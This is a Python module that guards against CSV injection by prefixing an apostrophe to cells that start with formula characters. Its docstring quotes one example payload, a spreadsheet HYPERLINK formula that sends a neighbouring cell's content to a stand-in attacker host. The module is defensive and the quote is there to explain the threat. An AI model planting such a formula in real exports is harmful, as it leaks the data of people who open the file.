"""CSV that a spreadsheet shows as text and never runs.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read as a formula by Excel and LibreOffice (CSV injection): a report reference
``=HYPERLINK("http://evil.example/?x="&A3;"Open")`` would send the next cell's
content away on a click. Every CSV the application writes goes through
``SafeDictWriter``, which puts an apostrophe before such a cell (OWASP's advice).
"""

import csv

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value) -> str:
    """``value`` as a CSV cell a spreadsheet will not evaluate."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


class SafeDictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose every cell, header included, goes through ``csv_cell``.
    ``koppen`` maps a field to the header people read (a label, not the field's code)."""

    def __init__(self, f, fieldnames, *args, koppen=None, **kwargs):
        super().__init__(f, fieldnames, *args, **kwargs)
        self.koppen = koppen or {}

    def writeheader(self):
        return self.writer.writerow(
            [csv_cell(self.koppen.get(name, name)) for name in self.fieldnames]
        )

    def writerow(self, rowdict):
        return super().writerow({key: csv_cell(value) for key, value in rowdict.items()})
